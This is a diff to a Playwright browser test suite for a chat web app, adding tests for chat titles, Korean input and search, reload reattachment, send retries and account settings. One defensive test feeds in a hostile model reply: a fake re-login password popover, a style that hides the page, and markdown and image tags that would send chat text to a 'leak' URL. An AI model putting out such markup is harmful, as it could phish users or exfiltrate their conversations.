@@ -14,6 +14,7 @@ import httpx
 import pytest
 
 from sputnik.serve.config import ServeConfig
+from sputnik.serve.keys import RateLimiter
 from live import ANSWER, THOUGHT, Live, free_port
 
 CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
@@ -43,6 +44,7 @@ def chat_server(think_model, tmp_path_factory):
     db = tmp_path_factory.mktemp("web") / "web.db"
     cfg = ServeConfig(model=str(think_model), dtype="float32", served_name="think", no_auth=True, database_url=f"sqlite:///{db}")
     with Live(cfg) as live:
+        live.app.state.auth.per_ip = RateLimiter(1000)  # every test here signs up from 127.0.0.1
         yield live.wait_ready()
 
 
@@ -92,8 +94,14 @@ def test_chat_thoughts_regenerate_edit_korean_ime_signout(browser, chat_server):
     page = new_page(browser, chat_server)
     assert page.get_attribute("html", "lang") == "en"
     sign_up(page, "first@example.com")
+    assert page.locator("#conv-title").inner_text() == "New chat"
+    assert not page.locator("#thinking-switch").is_visible()  # this model's template opens no thought to close
     send(page, "What is 2 + 2?")
     wait_answer(page, ANSWER, 1)
+    # The first message names the chat, in the sidebar and the header.
+    page.wait_for_function("() => document.querySelector('.conv-item.active .conv-title')?.textContent"
+                           " === 'What is 2 + 2?'")
+    assert page.locator("#conv-title").inner_text() == "What is 2 + 2?"
     answer = last_answer(page)
     details = answer.locator(".reasoning")
     # The thought streamed into the block, which then closed into "Thought for N seconds".
@@ -126,6 +134,7 @@ def test_chat_thoughts_regenerate_edit_korean_ime_signout(browser, chat_server):
 
     # IME: Enter while a Hangul composition is open never sends; after it is committed, Enter sends.
     page.click("#new-chat")
+    assert page.locator("#conv-title").inner_text() == "새 대화"
     page.click("#composer")
     cdp = page.context.new_cdp_session(page)
     cdp.send("Input.imeSetComposition", {"text": "안녕하세", "selectionStart": 4, "selectionEnd": 4})
@@ -138,6 +147,12 @@ def test_chat_thoughts_regenerate_edit_korean_ime_signout(browser, chat_server):
     page.press("#composer", "Enter")
     wait_answer(page, ANSWER, 1)
     assert page.locator("article.msg.user .content").first.inner_text().strip() == "안녕하세요"
+    page.wait_for_function("() => document.querySelector('.conv-item.active .conv-title')?.textContent"
+                           " === '안녕하세요'")  # titled in the words the user wrote
+    page.fill("#conv-search", "존재하지 않는 대화")
+    page.wait_for_function("() => document.querySelector('.conv-none')?.textContent === '검색과 일치하는 대화가 없습니다'")
+    page.fill("#conv-search", "")
+    page.wait_for_selector(".conv-item")
 
     page.click("#signout")
     page.wait_for_selector("#signin-email")
@@ -208,6 +223,12 @@ def test_stop_cancels_the_answer_on_the_server(browser, default_gguf, tmp_path):
         send(page, "Write a very long story about a dragon who learns to count.")
         page.wait_for_function("() => { const c = document.querySelector('article.msg.assistant .content');"
                                " return c && c.textContent.length > 20; }", timeout=60_000)
+        # Reloading leaves the answer running on the server; the page reattaches and sees it grow.
+        before = len(last_answer(page).locator(".content").inner_text())
+        page.reload()
+        page.wait_for_selector("#stop", state="visible", timeout=10_000)
+        page.wait_for_function("n => { const c = document.querySelector('article.msg.assistant .content');"
+                               " return c && c.textContent.length > n + 20; }", arg=before, timeout=60_000)
         page.click("#stop")
         page.wait_for_selector("#send", state="visible", timeout=10_000)
         deadline = time.monotonic() + 10
@@ -284,3 +305,108 @@ def test_a_restart_mid_answer_keeps_the_question_and_the_partial_answer(default_
     finally:
         proc.terminate()
         proc.wait(timeout=30)
+
+
+HOSTILE = """<div class="popover"><p>Your session expired</p><button id="relogin">Sign in again</button>
+<input name="password" placeholder="Password"></div>
+
+<form action="/api/auth/signout"><select><option>a</option></select><textarea>t</textarea></form>
+
+<style>body { display: none }</style>after the style
+
+![pixel]({leak}/leak?secret=chat-text) and <img src="{leak}/leak2">
+
+<svg width="2000" height="2000"></svg> <span style="position:fixed;inset:0">overlay</span>
+
+- [x] done task
+
+`<b>in a code span</b>` and a block:
+
+```python
+print("<b>hi</b>")
+```
+"""
+
+
+def test_model_output_is_markdown_never_page_html(browser, chat_server):
+    from sputnik.web import store
+
+    page = new_page(browser, chat_server)
+    sign_up(page, "markup@example.com")
+    send(page, "Hi")
+    wait_answer(page, ANSWER, 1)
+    requested: list[str] = []
+    page.on("request", lambda r: requested.append(r.url))
+    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
+    user_id = page.evaluate("() => fetch('/api/me').then(r => r.json())")["user"]["id"]
+    leak = f"http://127.0.0.1:{free_port()}"
+    with chat_server.app.state.db.session() as s:
+        store.add_message(s, user_id, conv_id, "assistant", HOSTILE.replace("{leak}", leak))
+    page.reload()
+    page.wait_for_selector("article.msg.assistant >> nth=1")
+    time.sleep(0.5)
+    reply = last_answer(page).locator(".content")
+    # Nothing a model writes carries the page's classes, styles, controls, or loads a URL it chose.
+    assert reply.locator(".popover, button:not(.copy-code), input, select, textarea, form, style, svg, img,"
+                         " [style], [id], [name]").count() == 0
+    assert page.locator("#relogin").count() == 0
+    text = reply.inner_text()
+    assert '<div class="popover">' in text and "<style>" in text and "after the style" in text  # shown as text
+    assert "☑ done task" in text
+    assert reply.locator(f"a[href^='{leak}/leak']").count() == 1  # the markdown image is a link, not a request
+    assert not [u for u in requested if "/leak" in u]
+    assert reply.locator("code").first.inner_text() == "<b>in a code span</b>"
+    assert reply.locator("pre code.hljs").count() == 1  # code blocks are still highlighted
+    box = last_answer(page).bounding_box()
+    assert box["height"] < 1500  # no 2000 px blank box
+    assert page.locator("body").is_visible() and not page.dialogs
+
+    # The raw page template is not served from /static, where it ran the chat without any CSP.
+    raw = page.goto(chat_server.url + "/static/index.html")
+    assert raw.status == 404 and "frame-ancestors 'none'" in raw.headers["content-security-policy"]
+
+
+def test_a_failed_send_keeps_the_text_and_retries(browser, chat_server):
+    page = new_page(browser, chat_server)
+    sign_up(page, "offline@example.com")
+    send(page, "Hi")
+    wait_answer(page, ANSWER, 1)
+    page.route("**/messages", lambda route: route.abort())  # the server is unreachable
+    send(page, "What is 2 + 2?")
+    page.wait_for_selector("#send-error:not([hidden])")
+    assert page.input_value("#composer") == "What is 2 + 2?"  # not lost
+    assert page.locator("article.msg.user").count() == 1  # nothing pretends it was sent
+    assert "Can't reach the server" in page.locator("#send-error").inner_text()
+    page.unroute("**/messages")
+    page.click("#send-retry")
+    wait_answer(page, ANSWER, 2)
+    assert page.input_value("#composer") == "" and page.locator("#send-error").is_hidden()
+    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
+    saved = page.evaluate("id => fetch('/api/conversations/' + id).then(r => r.json())", conv_id)
+    assert [m["content"] for m in saved["messages"] if m["role"] == "user"] == ["Hi", "What is 2 + 2?"]
+
+
+def test_account_page_in_korean(browser, chat_server):
+    page = new_page(browser, chat_server, locale="ko-KR")
+    sign_up(page, "account@example.com")
+    page.click("#account-open")
+    assert page.locator("#account-panel h2").inner_text() == "계정"
+    page.fill("#account-instructions", "You are helpful.")
+    page.click("#account-save")
+    page.wait_for_function("() => document.querySelector('#account-status').textContent === '저장됨'")
+    page.fill("#account-current", "correct horse battery")
+    page.fill("#account-new", "a brand new password")
+    page.click("#account-password-save")
+    page.wait_for_function("() => document.querySelector('#account-status').textContent.startsWith('비밀번호를')")
+    page.click("#account-close")
+    send(page, "Hi")  # answered with the instructions as the system prompt (the test model knows that one)
+    wait_answer(page, ANSWER, 1)
+    page.click("#account-open")
+    assert page.input_value("#account-instructions") == "You are helpful."
+    page.click("#account-signout-all")
+    page.wait_for_selector("#signin-email")
+    page.fill("#signin-email", "account@example.com")
+    page.fill("#signin-password", "a brand new password")
+    page.click("#signin-submit")
+    page.wait_for_selector("#composer")
+    assert not page.errors and not page.dialogs
